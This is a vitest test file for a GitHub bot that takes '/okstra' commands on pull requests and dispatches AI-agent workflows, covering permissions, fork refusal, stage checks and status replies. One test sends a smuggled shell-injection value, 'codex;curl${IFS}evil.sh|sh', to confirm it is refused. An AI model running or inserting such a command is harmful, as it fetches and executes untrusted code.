import { describe, expect, it } from 'vitest';
import type { EmitterWebhookEvent } from '@octokit/webhooks';
import { delivery, example, GitHubMock, NOW, OKSTRA_WORKFLOW, testProbot, useNock } from './harness.js';
import { CONFIG, doneRow, HEAD_SHA, PLAN_ID, PLAN_PATH, PLAN_TEXT, startedRow } from './fixtures.js';

useNock();

type CommentPayload = EmitterWebhookEvent<'issue_comment.created'>['payload'];

/**
 * The one issue_comment.created example with an installation, which is on an
 * issue (#1 of Codertocat/Hello-World, default branch master). Changed here:
 * the comment body; and, to make it a pull request comment (none of the
 * examples is one), `issue.pull_request` set as GitHub sets it on PR comments.
 */
function prComment(body: string, onPullRequest = true): CommentPayload {
  const p = example('issue_comment.created', (e) => Boolean(e.installation));
  p.comment.body = body;
  if (onPullRequest) {
    p.issue.pull_request = {
      url: 'https://api.github.com/repos/Codertocat/Hello-World/pulls/1',
      html_url: 'https://github.com/Codertocat/Hello-World/pull/1',
      diff_url: 'https://github.com/Codertocat/Hello-World/pull/1.diff',
      patch_url: 'https://github.com/Codertocat/Hello-World/pull/1.patch',
      merged_at: null,
    };
  }
  return p;
}

const REPO = { owner: 'Codertocat', repo: 'Hello-World' };
const COMMENT_ID = 492700400;
const USER = 'Codertocat';
/**
 * The default branch: every run is dispatched there, so its copy of the
 * workflow runs, and its workflow file is the one checked; a plan the pull
 * request adds is named to the Action by `plan-ref` (the head commit).
 */
const BRANCH = 'master';

async function receive(payload: CommentPayload, logs: string[] = []): Promise<void> {
  const probot = await testProbot(logs);
  await probot.receive(delivery('issue_comment.created', payload));
}

/** What every accepted command costs first: the token, 👀, the config, the sender's role. */
function accepted(gh: GitHubMock, role = 'write'): GitHubMock {
  return gh.token().reaction(COMMENT_ID).config(CONFIG).permission(USER, role);
}

/** A launch command's pull request and files are read alongside the sender's role, so a refused sender has them read too. */
function prefetched(gh: GitHubMock): GitHubMock {
  return gh.pull(1, { headSha: HEAD_SHA }).pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }]);
}

/** The pull request (#1, same repository) that adds the plan, and the plan itself at its head. */
function planOnPullRequest(gh: GitHubMock): GitHubMock {
  return gh
    .pull(1, { headSha: HEAD_SHA })
    .pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }, { filename: 'README.md' }])
    .file(PLAN_PATH, PLAN_TEXT, HEAD_SHA);
}

describe('issue_comment.created', () => {
  it("a write user's `/okstra stage 2` creates the queued check, then dispatches the workflow with the right inputs", async () => {
    const gh = accepted(new GitHubMock(REPO));
    planOnPullRequest(gh)
      .ledger(PLAN_ID, [doneRow(1)])
      .workflow(OKSTRA_WORKFLOW, BRANCH)
      .createCheck(5001)
      .dispatch()
      .reaction(COMMENT_ID);

    await receive(
      prComment(
        'Stage 1 looks right.\n\n/okstra stage 2 --executor codex --verifiers claude,gemini --model claude=claude-sonnet-4-5',
      ),
    );

    expect(gh.bodies.createCheck).toEqual([
      {
        name: 'okstra: password-reset · stage 2',
        head_sha: HEAD_SHA,
        status: 'queued',
        details_url: 'https://github.com/Codertocat/Hello-World/actions/workflows/okstra.yml',
        output: {
          title: 'Queued',
          summary: `Requested by @${USER} ([comment](https://github.com/Codertocat/Hello-World/issues/1#issuecomment-${COMMENT_ID})). Waiting for the [okstra workflow](https://github.com/Codertocat/Hello-World/actions/workflows/okstra.yml) to run stage 2 of plan \`password-reset\`.`,
        },
      },
    ]);
    expect(gh.bodies.dispatch).toEqual([
      {
        ref: BRANCH,
        inputs: {
          mode: 'stage',
          plan: PLAN_PATH,
          'plan-ref': HEAD_SHA,
          stage: '2',
          'pr-number': '1',
          executor: 'codex',
          verifiers: 'claude,gemini',
          models: 'claude=claude-sonnet-4-5',
          'check-run-id': '5001',
          trigger: 'comment',
          actor: USER,
        },
      },
    ]);
    expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'rocket' }]);
  });

  it('refuses a read-only user with 😕 and a short reply, and starts nothing', async () => {
    const gh = prefetched(accepted(new GitHubMock(REPO), 'read'))
      .reaction(COMMENT_ID)
      .comment(1);
    await receive(prComment('/okstra stage 2'));
    expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'confused' }]);
    expect(gh.bodies.comment).toEqual([
      {
        body: `@${USER} @${USER} has \`read\` access to this repository; okstra takes commands from people with \`write\` access or more.`,
      },
    ]);
  });

  it('counts a triage role as below write, and honours a lower bot.permission', async () => {
    const gh = new GitHubMock(REPO)
      .token()
      .reaction(COMMENT_ID)
      .config('bot:\n  permission: triage\napproval:\n  required: false\n')
      .permission(USER, 'read', 'triage');
    planOnPullRequest(gh)
      .ledger(PLAN_ID, [doneRow(1)])
      .workflow(OKSTRA_WORKFLOW, BRANCH)
      .createCheck(5002)
      .dispatch()
      .reaction(COMMENT_ID);
    await receive(prComment('/okstra stage 2'));
    expect(gh.bodies.dispatch?.[0]).toMatchObject({
      ref: 'master',
      inputs: { stage: '2', 'plan-ref': HEAD_SHA, 'check-run-id': '5002' },
    });
  });

  it('ignores a bot: no reaction, no reply, no request at all', async () => {
    const p = prComment('/okstra stage 2');
    // Changed: the sender is a GitHub App's bot account.
    p.sender.login = 'dependabot[bot]';
    p.sender.type = 'Bot';
    const logs: string[] = [];
    await receive(p, logs);
    expect(logs).toContain('ignored /okstra from bot account dependabot[bot]');
  });

  it('refuses a pull request from a fork unless the config allows forks', async () => {
    const gh = accepted(new GitHubMock(REPO))
      .pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' })
      .pullFiles(1, [])
      .reaction(COMMENT_ID)
      .comment(1);
    await receive(prComment('/okstra stage 2'));
    expect(gh.bodies.reaction?.at(-1)).toEqual({ content: 'confused' });
    expect(gh.bodies.comment?.[0]?.body).toContain('comes from the fork `mallory/Hello-World`');
    expect(gh.bodies.comment?.[0]?.body).toContain('`bot.allowForks: true`');
  });

  it('runs a fork pull request when bot.allowForks is set, from the default branch when the plan is there', async () => {
    const gh = new GitHubMock(REPO)
      .token()
      .reaction(COMMENT_ID)
      .config('bot:\n  allowForks: true\napproval:\n  required: false\n')
      .permission(USER, 'admin');
    gh.pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' }).pullFiles(1, [{ filename: 'src/app.ts' }]);
    gh.dir('.okstra/plans', 'master', ['password-reset.md']).file(PLAN_PATH, PLAN_TEXT, 'master');
    gh.ledger(PLAN_ID, null).workflow(OKSTRA_WORKFLOW, 'master').createCheck(5003).dispatch().reaction(COMMENT_ID);
    await receive(prComment('/okstra stage 1'));
    expect(gh.bodies.dispatch?.[0]).toMatchObject({ ref: 'master', inputs: { stage: '1', 'check-run-id': '5003' } });
    // The plan is the default branch's: the Action reads it from the commit it checks out.
    expect(gh.bodies.dispatch?.[0]?.inputs).not.toHaveProperty('plan-ref');
  });

  it("refuses a fork pull request that brings its own plan, which is not on this repository's branches", async () => {
    const gh = new GitHubMock(REPO)
      .token()
      .reaction(COMMENT_ID)
      .config('bot:\n  allowForks: true\napproval:\n  required: false\n')
      .permission(USER, 'admin');
    gh.pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' })
      .pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }])
      .file(PLAN_PATH, PLAN_TEXT, HEAD_SHA);
    gh.reaction(COMMENT_ID).comment(1);
    await receive(prComment('/okstra stage 1'));
    expect(gh.bodies.comment?.[0]?.body).toContain('whose branch lives in a fork');
  });

  it("reads the plan's ledger and the workflow beside the plan file, not after it: one round trip less per launch", async () => {
    // The plan file is answered once its ledger has been asked for, or after a second when it never is before.
    let ledgerAsked = (): void => undefined;
    const asked = new Promise<'ledger'>((resolve) => (ledgerAsked = () => resolve('ledger')));
    const first = Promise.race([asked, new Promise<'plan'>((r) => setTimeout(() => r('plan'), 1000))]);
    const gh = accepted(new GitHubMock(REPO))
      .pull(1, { headSha: HEAD_SHA })
      .pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }])
      .file(PLAN_PATH, PLAN_TEXT, HEAD_SHA, REPO, { answerAfter: first })
      .ledger(PLAN_ID, [doneRow(1)], 'okstra-ledger', ledgerAsked)
      .workflow(OKSTRA_WORKFLOW, BRANCH)
      .createCheck(5001)
      .dispatch()
      .reaction(COMMENT_ID);
    await receive(prComment('/okstra stage 2'));
    expect(await first).toBe('ledger');
    expect(gh.bodies.dispatch?.[0]?.inputs).toMatchObject({ stage: '2', 'check-run-id': '5001' });
  });

  it('a plan whose id is not its file name is launched from its own ledger, not the one its file name would give', async () => {
    const path = '.okstra/plans/reset-flow.md';
    // Read beside the plan under the file's name (no such ledger: no snapshot, no folder), then under the plan's id.
    const gh = accepted(new GitHubMock(REPO))
      .pull(1, { headSha: HEAD_SHA })
      .pullFiles(1, [{ filename: path, status: 'added' }])
      .file(path, PLAN_TEXT, HEAD_SHA)
      .ledger('reset-flow', null)
      .ledger(PLAN_ID, [doneRow(1)])
      .workflow(OKSTRA_WORKFLOW, BRANCH)
      .createCheck(5001)
      .dispatch()
      .reaction(COMMENT_ID);
    await receive(prComment('/okstra stage 2'));
    // Stage 1 is done in password-reset's ledger only: from reset-flow's, stage 2 would have been refused.
    expect(gh.bodies.dispatch?.[0]?.inputs).toMatchObject({ plan: path, stage: '2', 'check-run-id': '5001' });
  });

  it('refuses to start a run on a closed pull request', async () => {
    const gh = accepted(new GitHubMock(REPO))
      .pull(1, { headSha: HEAD_SHA, state: 'closed' })
      .pullFiles(1, [])
      .reaction(COMMENT_ID)
      .comment(1);
    await receive(prComment('/okstra run'));
    expect(gh.bodies.comment?.[0]?.body).toContain('this pull request is closed');
  });

  it('answers an unknown verb with the usage', async () => {
    const gh = accepted(new GitHubMock(REPO)).reaction(COMMENT_ID).comment(1);
    await receive(prComment('/okstra deploy'));
    const body = String(gh.bodies.comment?.[0]?.body);
    expect(body).toContain('- `/okstra deploy`: unknown command `deploy`');
    expect(body).toContain('**okstra commands**');
    expect(gh.bodies.reaction?.at(-1)).toEqual({ content: 'confused' });
  });

  it('ignores a command inside a code block, a quote or an HTML comment: no request at all', async () => {
    await receive(
      prComment('To run it:\n\n```\n/okstra stage 2\n```\n\n> /okstra stage 2\n\n<!-- /okstra stage 2 -->'),
    );
  });

  it('refuses a stage that is not in the plan, naming its stages', async () => {
    const gh = accepted(new GitHubMock(REPO));
    // The workflow file is read alongside the ledger, before the stage is known to be missing.
    planOnPullRequest(gh)
      .ledger(PLAN_ID, [doneRow(1)])
      .workflow(OKSTRA_WORKFLOW, BRANCH)
      .reaction(COMMENT_ID)
      .comment(1);
    await receive(prComment('/okstra stage 9'));
    expect(gh.bodies.comment?.[0]?.body).toBe(
      `@${USER} okstra:\n\n- \`/okstra stage 9\`: stage 9 is not in plan \`password-reset\` (its stages: 1, 2, 3).`,
    );
  });

  it('refuses a value carrying shell metacharacters before anything is started', async () => {
    const gh = prefetched(accepted(new GitHubMock(REPO)))
      .reaction(COMMENT_ID)
      .comment(1);
    await receive(prComment('/okstra stage 2 --executor codex;curl${IFS}evil.sh|sh'));
    const body = String(gh.bodies.comment?.[0]?.body);
    expect(body).toContain('contains characters okstra does not accept (`;` `$` `{` `}` `|`)');
    expect(gh.bodies.dispatch).toBeUndefined();
  });

  it('answers a command on an issue that okstra runs on pull requests', async () => {
    const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID).comment(1);
    await receive(prComment('/okstra stage 2', false));
    expect(gh.bodies.reaction).toEqual([{ content: 'confused' }]);
    expect(gh.bodies.comment?.[0]?.body).toContain('okstra runs on pull requests');
  });

  it('runs several commands in order and answers each that needs it in one reply', async () => {
    const gh = accepted(new GitHubMock(REPO));
    planOnPullRequest(gh)
      .ledger(PLAN_ID, [doneRow(1)])
      .workflow(OKSTRA_WORKFLOW, BRANCH)
      .createCheck(5004)
      .dispatch();
    // The second command reads the plan and the ledger again (each command stands alone; the pull request and its files are read once) and finds stage 3 blocked.
    gh.file(PLAN_PATH, PLAN_TEXT, HEAD_SHA)
      .ledger(PLAN_ID, [doneRow(1)])
      .workflow(OKSTRA_WORKFLOW, BRANCH);
    gh.reaction(COMMENT_ID, 2).comment(1);
    await receive(prComment('/okstra stage 2\n/okstra stage 3\n/okstra help'));
    expect(gh.bodies.dispatch?.[0]?.inputs).toMatchObject({ stage: '2' });
    expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'rocket' }, { content: 'confused' }]);
    const body = String(gh.bodies.comment?.[0]?.body);
    expect(
      body.indexOf('`/okstra stage 3`: stage 3 of plan `password-reset` waits for stage 2, not done yet.'),
    ).toBeGreaterThan(0);
    expect(body.indexOf('`/okstra help`: the commands are below.')).toBeGreaterThan(body.indexOf('/okstra stage 3'));
    expect(body).toContain('**okstra commands**');
  });

  it('`/okstra status` posts the plan status as a sticky comment with the table and the graph', async () => {
    const gh = accepted(new GitHubMock(REPO));
    planOnPullRequest(gh)
      .ledger(PLAN_ID, [doneRow(1)])
      .listComments(1, [{ id: 1, body: 'unrelated' }])
      .comment(1);
    await receive(prComment('/okstra status'));
    const body = String(gh.bodies.comment?.[0]?.body);
    expect(body.startsWith('<!-- okstra:status plan=password-reset -->\n### okstra plan `password-reset`')).toBe(true);
    expect(body).toContain('| 1 | Reset tokens | — | ✅ done |');
    expect(body).toContain('| 2 | Reset API | 1 | 🟢 ready |');
    expect(body).toContain('```mermaid\nflowchart TD');
    expect(body).toContain(`at ${NOW.toISOString()}`);
  });

  it('`/okstra status` says which ledger rows are not believed, from the judgement the snapshot holds', async () => {
    const gh = accepted(new GitHubMock(REPO));
    // Row 4 claims stage 2 for run b while run a (row 3) holds it: the appender's snapshot names it distrusted.
    planOnPullRequest(gh)
      .ledger(PLAN_ID, [doneRow(1), startedRow(2, 'gh-7-1-a'), startedRow(2, 'gh-7-1-b')])
      .listComments(1, [])
      .comment(1);
    await receive(prComment('/okstra status'));
    const body = String(gh.bodies.comment?.[0]?.body);
    expect(body).toContain('| 2 | Reset API | 1 | 🔄 running |');
    expect(body).toContain(
      "- ⚠️ ledger row 4 ignored: started for run gh-7-1-b while run gh-7-1-a still holds stage 2's claim",
    );
  });

  it('`/okstra status` again updates the status comment in place and points at it', async () => {
    const gh = accepted(new GitHubMock(REPO));
    planOnPullRequest(gh)
      .ledger(PLAN_ID, [doneRow(1), doneRow(2)])
      .listComments(1, [{ id: 4242, body: '<!-- okstra:status plan=password-reset -->\nold' }])
      .updateComment(4242)
      .comment(1);
    await receive(prComment('/okstra status'));
    expect(String(gh.bodies.updateComment?.[0]?.body)).toContain('| 2 | Reset API | 1 | ✅ done |');
    expect(gh.bodies.comment?.[0]?.body).toContain(
      'is updated [above](https://github.com/Codertocat/Hello-World/pull/1#issuecomment-4242)',
    );
  });

  it("`/okstra cancel` cancels this pull request's unfinished okstra runs only", async () => {
    const gh = accepted(new GitHubMock(REPO));
    gh.workflowRuns([
      { id: 71, title: `okstra ${PLAN_PATH} · pr 1 · checks 5001`, status: 'in_progress' },
      { id: 72, title: `okstra ${PLAN_PATH} · pr 12 · checks 6001`, status: 'queued' },
      { id: 73, title: 'okstra  · pr  · checks ', status: 'queued' },
    ]);
    gh.cancelRun(71).comment(1);
    await receive(prComment('/okstra cancel'));
    expect(gh.bodies.comment?.[0]?.body).toContain(
      'cancelled [run 71](https://github.com/Codertocat/Hello-World/actions/runs/71)',
    );
  });

  it('answers a configuration that does not validate, naming the key', async () => {
    const gh = prefetched(
      new GitHubMock(REPO).token().reaction(COMMENT_ID).config('bot:\n  permision: read\n').permission(USER, 'write'),
    )
      .reaction(COMMENT_ID)
      .comment(1);
    await receive(prComment('/okstra stage 2'));
    expect(gh.bodies.comment?.[0]?.body).toContain(
      '.okstra/config.yml: bot: unknown key "permision" (did you mean "permission"?)',
    );
  });

  it("reads .github/okstra.yml with Probot's loader when there is no .okstra/config.yml, and applies it", async () => {
    const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID);
    // Probot's loader looks in the repository, then in the owner's `.github` repository, for each path.
    gh.file('.okstra/config.yml', null).file('.okstra/config.yml', null, undefined, {
      owner: 'Codertocat',
      repo: '.github',
    });
    prefetched(gh.file('.github/okstra.yml', 'bot:\n  permission: admin\n').permission(USER, 'write'))
      .reaction(COMMENT_ID)
      .comment(1);
    await receive(prComment('/okstra stage 2'));
    expect(gh.bodies.comment?.[0]?.body).toContain('okstra takes commands from people with `admin` access or more.');
  });

  it('answers when GitHub fails midway, instead of leaving 👀 alone', async () => {
    const gh = accepted(new GitHubMock(REPO));
    planOnPullRequest(gh)
      .ledger(PLAN_ID, [doneRow(1)])
      .workflow(OKSTRA_WORKFLOW, BRANCH)
      .createCheck(0, 502)
      .reaction(COMMENT_ID)
      .comment(1);
    const logs: string[] = [];
    await receive(prComment('/okstra stage 2'), logs);
    expect(gh.bodies.reaction?.at(-1)).toEqual({ content: 'confused' });
    expect(gh.bodies.comment?.[0]?.body).toContain('okstra could not finish this command: `HTTP 502');
    expect(gh.bodies.dispatch).toBeUndefined();
    expect(logs.some((l) => l.startsWith('/okstra stage 2: HTTP 502'))).toBe(true);
  });

  it('refuses a stage that is already done, and one in progress', async () => {
    const gh = accepted(new GitHubMock(REPO));
    planOnPullRequest(gh)
      .ledger(PLAN_ID, [doneRow(1)])
      .workflow(OKSTRA_WORKFLOW, BRANCH);
    gh.file(PLAN_PATH, PLAN_TEXT, HEAD_SHA)
      .ledger(PLAN_ID, [doneRow(1), startedRow(2, 'gh-200-1-s2')])
      .workflow(OKSTRA_WORKFLOW, BRANCH);
    gh.reaction(COMMENT_ID).comment(1);
    await receive(prComment('/okstra stage 1\n/okstra stage 2'));
    const body = String(gh.bodies.comment?.[0]?.body);
    expect(body).toContain('stage 1 of plan `password-reset` is already done (run `gh-100-1-s1`).');
    expect(body).toContain('stage 2 of plan `password-reset` is in progress');
  });

  describe('comments that would stall a parser (issue 11), answered through the whole delivery', () => {
    /** The two 64 KB comments from the issue: 17 s of parsing and a stack overflow (HTTP 500, no reply) before. */
    const STARS = `/okstra ${'*['.repeat(32_760)}`;
    const QUOTES = `/okstra stage 2\n${'>'.repeat(65_000)}`;

    it('`/okstra *[*[…` (65,528 characters) is read as one command and answered with the refusal of its argument', async () => {
      expect(STARS).toHaveLength(65_528);
      const gh = accepted(new GitHubMock(REPO)).reaction(COMMENT_ID).comment(1);
      await receive(prComment(STARS));
      const body = String(gh.bodies.comment?.[0]?.body);
      expect(body).toContain(
        '- `/okstra *[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*...`: `*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*...` contains characters okstra does not accept (`*` `[`)',
      );
      expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'confused' }]);
    });

    it('`/okstra stage 2` followed by 65,000 `>` runs stage 2 (the quote below it is not a command), no 500', async () => {
      const gh = accepted(new GitHubMock(REPO));
      planOnPullRequest(gh)
        .ledger(PLAN_ID, [doneRow(1)])
        .workflow(OKSTRA_WORKFLOW, BRANCH)
        .createCheck(5005)
        .dispatch()
        .reaction(COMMENT_ID);
      await receive(prComment(QUOTES));
      expect(gh.bodies.dispatch?.[0]).toMatchObject({ inputs: { stage: '2', 'check-run-id': '5005' } });
    });

    it("both answered through Probot's server with 200, not 500", async () => {
      const { startServer, post } = await import('./harness.js');
      const server = await startServer();
      try {
        accepted(new GitHubMock(REPO)).reaction(COMMENT_ID).comment(1);
        expect((await post(server.url, 'issue_comment', prComment(STARS))).status).toBe(200);
        // The server's Probot keeps the installation token of the first delivery.
        const gh = new GitHubMock(REPO).reaction(COMMENT_ID).config(CONFIG).permission(USER, 'write');
        planOnPullRequest(gh)
          .ledger(PLAN_ID, [doneRow(1)])
          .workflow(OKSTRA_WORKFLOW, BRANCH)
          .createCheck(5006)
          .dispatch()
          .reaction(COMMENT_ID);
        expect((await post(server.url, 'issue_comment', prComment(QUOTES))).status).toBe(200);
      } finally {
        await server.stop();
      }
    });

    it("refuses a comment over 64 KiB that holds a command with a short reply, before reading the config or the sender's role", async () => {
      // 40,000 two-byte characters: under GitHub's 65,536-character cap, over 64 KiB of UTF-8.
      const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID).comment(1);
      await receive(prComment(`/okstra stage 2\n\n${'é'.repeat(40_000)}`));
      expect(gh.bodies.comment).toEqual([
        {
          body: `@${USER} okstra did not read this comment: it is 79 KiB, and okstra reads commands only from comments of up to 64 KiB. Post the \`/okstra\` command in a comment of its own.`,
        },
      ]);
      expect(gh.bodies.reaction).toEqual([{ content: 'confused' }]);
    });

    it('ignores an over-cap comment with no `/okstra` line: no request at all', async () => {
      await receive(prComment(`a long log\n${'é'.repeat(40_000)} /okstra stage 2`));
    });

    it('answers thousands of command lines with the first ten run and one line for the rest', async () => {
      const gh = accepted(new GitHubMock(REPO)).reaction(COMMENT_ID).comment(1);
      await receive(prComment(Array.from({ length: 5000 }, () => '/okstra help').join('\n')));
      const body = String(gh.bodies.comment?.[0]?.body);
      expect(body.match(/`\/okstra help`: the commands are below\./g)).toHaveLength(10);
      expect(body).toContain('- `/okstra help` and 4989 more: not run; okstra runs at most 10 commands per comment.');
      expect(body.length).toBeLessThan(3000);
    });
  });
});

describe('issue_comment.created: /okstra reconcile', () => {
  const QUEUED = (what: string): string =>
    `Requested by @${USER} ([comment](https://github.com/Codertocat/Hello-World/issues/1#issuecomment-${COMMENT_ID})). Waiting for the [okstra workflow](https://github.com/Codertocat/Hello-World/actions/workflows/okstra.yml) to ${what} of plan \`password-reset\`.`;

  it("a write user's `/okstra reconcile 2` on a done stage queues its check and dispatches mode reconcile", async () => {
    const gh = accepted(new GitHubMock(REPO));
    planOnPullRequest(gh)
      .ledger(PLAN_ID, [doneRow(1), doneRow(2)])
      .workflow(OKSTRA_WORKFLOW, BRANCH)
      .createCheck(5101)
      .dispatch()
      .reaction(COMMENT_ID);
    await receive(prComment('Stage 2 was force-pushed after review.\n\n/okstra reconcile 2'));
    expect(gh.bodies.createCheck).toEqual([
      {
        name: 'okstra: password-reset · stage 2',
        head_sha: HEAD_SHA,
        status: 'queued',
        details_url: 'https://github.com/Codertocat/Hello-World/actions/workflows/okstra.yml',
        output: { title: 'Queued', summary: QUEUED("re-verify stage 2's moved branch and record its new head") },
      },
    ]);
    // The 12 inputs' contract: `mode` carries the reconcile, `reset` is not sent.
    expect(gh.bodies.dispatch).toEqual([
      {
        ref: BRANCH,
        inputs: {
          mode: 'reconcile',
          plan: PLAN_PATH,
          'plan-ref': HEAD_SHA,
          stage: '2',
          'pr-number': '1',
          'check-run-id': '5101',
          trigger: 'comment',
          actor: USER,
        },
      },
    ]);
    expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'rocket' }]);
  });

  it('`/okstra reconcile 2 --reset` sends reset: true in the request', async () => {
    const gh = accepted(new GitHubMock(REPO));
    planOnPullRequest(gh)
      .ledger(PLAN_ID, [doneRow(1), doneRow(2)])
      .workflow(OKSTRA_WORKFLOW, BRANCH)
      .createCheck(5102)
      .dispatch()
      .reaction(COMMENT_ID);
    await receive(prComment('/okstra reconcile 2 --reset'));
    expect(gh.bodies.createCheck?.[0]).toMatchObject({
      name: 'okstra: password-reset · stage 2',
      output: { summary: QUEUED("put stage 2's moved branch back at the head its done row records") },
    });
    expect(gh.bodies.dispatch).toEqual([
      {
        ref: BRANCH,
        inputs: {
          mode: 'reconcile',
          plan: PLAN_PATH,
          'plan-ref': HEAD_SHA,
          stage: '2',
          'pr-number': '1',
          'check-run-id': '5102',
          trigger: 'comment',
          actor: USER,
          reset: 'true',
        },
      },
    ]);
    expect(JSON.parse(gh.dispatchWire[0]?.request ?? '{}')).toMatchObject({ v: 1, reset: true });
  });

  it('against the workflow of an okstra before the request, every launch is refused naming the input, and starts nothing', async () => {
    const older = OKSTRA_WORKFLOW.replace('      request:\n        required: false\n', '');
    expect(older).not.toContain('request:');
    const gh = accepted(new GitHubMock(REPO));
    planOnPullRequest(gh)
      .ledger(PLAN_ID, [doneRow(1), doneRow(2)])
      .workflow(older, BRANCH);
    gh.file(PLAN_PATH, PLAN_TEXT, HEAD_SHA)
      .ledger(PLAN_ID, [doneRow(1), doneRow(2)])
      .workflow(older, BRANCH);
    gh.reaction(COMMENT_ID).comment(1);
    await receive(prComment('/okstra reconcile 2 --reset\n/okstra reconcile 2'));
    expect(gh.bodies.createCheck).toBeUndefined();
    expect(gh.bodies.dispatch).toBeUndefined();
    const body = String(gh.bodies.comment?.[0]?.body);
    for (const command of ['/okstra reconcile 2 --reset', '/okstra reconcile 2'])
      expect(body).toContain(
        `- \`${command}\`: the workflow \`.github/workflows/okstra.yml\` cannot be used: its \`workflow_dispatch\` does not declare the input \`request\` of okstra's dispatch contract`,
      );
    expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'confused' }]);
  });

  it('refuses a read-only user with 😕 and a short reply, and starts nothing', async () => {
    const gh = prefetched(accepted(new GitHubMock(REPO), 'read'))
      .reaction(COMMENT_ID)
      .comment(1);
    await receive(prComment('/okstra reconcile 2'));
    expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'confused' }]);
    expect(gh.bodies.comment).toEqual([
      {
        body: `@${USER} @${USER} has \`read\` access to this repository; okstra takes commands from people with \`write\` access or more.`,
      },
    ]);
    expect(gh.bodies.createCheck).toBeUndefined();
    expect(gh.bodies.dispatch).toBeUndefined();
  });

  it('answers a stage that is not done from the ledger: no check, no dispatch', async () => {
    const gh = accepted(new GitHubMock(REPO));
    planOnPullRequest(gh)
      .ledger(PLAN_ID, [doneRow(1)])
      .workflow(OKSTRA_WORKFLOW, BRANCH)
      .reaction(COMMENT_ID)
      .comment(1);
    await receive(prComment('/okstra reconcile 2'));
    expect(gh.bodies.comment).toEqual([
      {
        body: `@${USER} okstra:\n\n- \`/okstra reconcile 2\`: stage 2 is not done; nothing to reconcile (reconcile is for a done stage whose branch moved; \`/okstra stage 2\` runs it).`,
      },
    ]);
    expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'confused' }]);
    expect(gh.bodies.createCheck).toBeUndefined();
    expect(gh.bodies.dispatch).toBeUndefined();
  });

  it('refuses a reconcile on a closed pull request, as a run', async () => {
    const gh = accepted(new GitHubMock(REPO))
      .pull(1, { headSha: HEAD_SHA, state: 'closed' })
      .pullFiles(1, [])
      .reaction(COMMENT_ID)
      .comment(1);
    await receive(prComment('/okstra reconcile 2'));
    expect(gh.bodies.comment?.[0]?.body).toContain('this pull request is closed');
    expect(gh.bodies.dispatch).toBeUndefined();
  });

  it('refuses a reconcile on a fork pull request, as a run', async () => {
    const gh = accepted(new GitHubMock(REPO))
      .pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' })
      .pullFiles(1, [])
      .reaction(COMMENT_ID)
      .comment(1);
    await receive(prComment('/okstra reconcile 2 --reset'));
    expect(gh.bodies.comment?.[0]?.body).toContain('comes from the fork `mallory/Hello-World`');
    expect(gh.bodies.dispatch).toBeUndefined();
  });

  it('answers a malformed reconcile with the usage, which lists it', async () => {
    // A reconcile line has the pull request read alongside the role, as every launch does, before it is parsed.
    const gh = prefetched(accepted(new GitHubMock(REPO)))
      .reaction(COMMENT_ID)
      .comment(1);
    await receive(prComment('/okstra reconcile 2 --reset --executor codex'));
    const body = String(gh.bodies.comment?.[0]?.body);
    expect(body).toContain(
      '`--reset` puts the branch back at the recorded head without a run, so `--executor` cannot go with it',
    );
    expect(body).toContain('`/okstra reconcile N`');
  });
});
